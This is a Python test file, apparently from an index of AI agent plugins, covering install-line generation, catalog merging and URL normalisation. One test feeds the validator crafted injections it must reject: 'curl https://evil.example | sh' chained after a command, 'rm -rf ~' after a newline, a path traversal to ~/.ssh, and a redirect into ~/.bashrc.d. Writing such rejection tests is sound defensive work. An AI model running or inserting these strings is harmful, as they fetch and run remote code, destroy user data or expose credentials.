        "codex plugin add axiom@axiom-marketplace",
    )
    skill = records["skill:vue@antfu/skills"]
    lines = install_for(skill, None)
    assert len(lines) == 2 and lines[0].endswith("# Claude Code") and all(client_line("skill", x) for x in lines)
    shared = next(
        r for r in records.values() if r.get("home", "claude") == "claude" and any(c == "codex" for c, _ in r["installs"])
    )
    assert install_for(shared, None)[0].startswith("/plugin ") and install_for(shared, "codex")[0].startswith("codex plugin ")
    # Every command the crawl wrote survives the query file; crafted ones do not.
    _, read = read_query_file(query_file_bytes(formats_snapshot), "q")
    assert {r["id"]: list(map(tuple, r["installs"])) for r in read} == {i: list(r["installs"]) for i, r in records.items()}
    for client, line in [
        ("codex", "codex plugin add x@y; curl https://evil.example | sh"),
        ("codex", "codex plugin marketplace add a/b\nrm -rf ~"),
        ("skill", lines[0].replace('"$d/r/skills/vue"', '"$d/r/../../.ssh"')),
        ("skill", lines[0].replace("# Claude Code", "&& curl evil.example # Claude Code")),
        ("skill", lines[0].replace("~/.claude/skills", "~/.bashrc.d")),
        ("cursor", "anything"),
    ]:
        assert not client_line(client, line), line


def test_a_remote_plugin_two_clients_list_is_one_record_and_two_remote_folders_stay_two(tmp_path: Path) -> None:
    """A remote source is the same plugin however each catalog spells it (a GitHub repo, an https
    URL with or without .git, another case); a different folder of the same repository is another."""
    root = tmp_path / "octo__remote"
    claude = {
        "name": "remote",
        "owner": {"name": "o"},
        "plugins": [
            {"name": "one", "source": {"source": "github", "repo": "acme/one"}},
            {"name": "sub", "source": {"source": "git-subdir", "url": "https://github.com/acme/mono.git", "path": "plugins/a"}},
        ],
    }
    codex_catalog = {
        "name": "remote",
        "plugins": [
            {"name": "one", "source": {"source": "url", "url": "https://GitHub.com/Acme/One.git"}},
            {"name": "sub", "source": {"source": "git-subdir", "url": "https://github.com/acme/mono", "path": "./plugins/a/"}},
            {"name": "other", "source": {"source": "git-subdir", "url": "https://github.com/acme/mono", "path": "plugins/b"}},
            {
                "name": "four",
                "source": {"source": "url", "url": "https://github.com/acme/four", "path": "a url source has no folder"},
            },
        ],
    }
    (root / ".claude-plugin").mkdir(parents=True)
    (root / ".claude-plugin" / "marketplace.json").write_text(json.dumps(claude))
    (root / ".agents" / "plugins").mkdir(parents=True)
    (root / ".agents" / "plugins" / "marketplace.json").write_text(json.dumps(codex_catalog))
    snapshot = crawl_local([tmp_path], TAXONOMY).snapshot
    records = {p.id: p for p in snapshot.plugins}
    assert sorted(records) == ["codex:four@octo/remote", "codex:other@octo/remote", "one@octo/remote", "sub@octo/remote"]
    assert [v.client for v in records["one@octo/remote"].clients] == ["codex"]
    assert [v.client for v in records["sub@octo/remote"].clients] == ["codex"]
    (status,) = snapshot.sources
    assert status.clients["codex"] == ClientCount(entries=4, recorded=4, skipped=0)


def test_the_formats_corpus_remote_and_relative_git_listings_are_one_record(formats_snapshot: Any) -> None:
    """0xnfrith lists three plugins by the same git URLs in Claude's and Codex's catalogs;
    octapowers' Codex entry is a git URL "./", the repository Claude's "./" names."""
    ids = {p.id: p for p in formats_snapshot.plugins}
    for name in ("claude-canvas", "statusline", "visualize"):
        assert [v.client for v in ids[f"{name}@0xnfrith/marketplace"].clients] == ["codex"]
    assert not any(i.startswith("codex:") and i.endswith(("@0xnfrith/marketplace", "@0ctacity/octapowers")) for i in ids)
    assert [v.client for v in ids["octapowers@0ctacity/octapowers"].clients] == ["codex"]


def test_codex_reading_a_cursor_catalog_gives_each_cursor_record_its_verdict(formats_snapshot: Any) -> None:
    """Where Codex has no catalog of its own nor Claude's, it reads Cursor's: each Cursor record
    carries Codex's verdict on the same entry, as the Codex CLI gave it (oracle/*.codex.json),
    even where Codex places the entry elsewhere (it ignores metadata.pluginRoot)."""
    records = {p.id: p for p in formats_snapshot.plugins}
    compared = 0
    for path in sorted((FORMATS / "oracle").glob("*.codex.json")):
        verdict = json.loads(path.read_text())
        if verdict.get("summary", {}).get("file_codex_read") != ".cursor-plugin/marketplace.json":
            continue
        market = path.name.removesuffix(".codex.json").replace("__", "/", 1)
        for step in verdict["steps"]:
            match = re.search(r" plugin add (\S+)@", step["command"])
            if match:
                record = next(r for i, r in records.items() if i.lower() == f"cursor:{match.group(1)}@{market}".lower())
                (view,) = [v for v in record.clients if v.client == "codex"]
                assert view.valid == (step["exit"] == 0), record.id
                compared += 1
    assert compared >= 90


def test_remote_keys_name_one_repository_however_it_is_spelled() -> None:
    from agentops_index.sources.clients import raw_remote, remote_key

    same = {
        remote_key(repo="Acme/One"),
        remote_key(url="https://github.com/acme/one.git"),
        remote_key(url="https://www.GitHub.com/acme/one/"),
        remote_key(url="https://user@github.com:443/acme/one"),
        remote_key(url="git@github.com:acme/one.git"),
        raw_remote({"source": "url", "url": "https://github.com/acme/one", "path": "ignored for a url source"}),
    }
    assert same == {"remote:github.com/acme/one#."}
    assert (
        raw_remote({"source": "git-subdir", "url": "https://github.com/acme/one", "path": "./p/"})
        == "remote:github.com/acme/one#p"
    )
    for bad in (
        "git@github.com/acme/one",
        "git@",
        "git@:",
        "https://@/",
        "https:///x",
        "file:///etc",
        "./x",
        "",
        "github.com/acme/one",
    ):
        assert remote_key(url=bad) is None, bad


def test_a_query_files_skill_line_must_copy_to_the_name_it_checks() -> None:
    from agentops_index.search.queryfile import client_line
    from agentops_index.sources.standalone import install

    root, folder = install("acme/skills", "github", ".", "tool")[0], install("acme/skills", "github", "skills/tool", "tool")[0]
    assert client_line("skill", root) and client_line("skill", folder)
    assert not client_line("skill", folder.replace("test ! -e ~/.claude/skills/tool", "test ! -e ~/.claude/skills/zzz"))
    assert not client_line("skill", root.replace(' && rm -rf "$d/r/.git"', ""))  # a root copy drops the clone's .git
    assert not client_line("skill", folder + "\n")
    assert not client_line("codex", "codex plugin marketplace add -c/x")
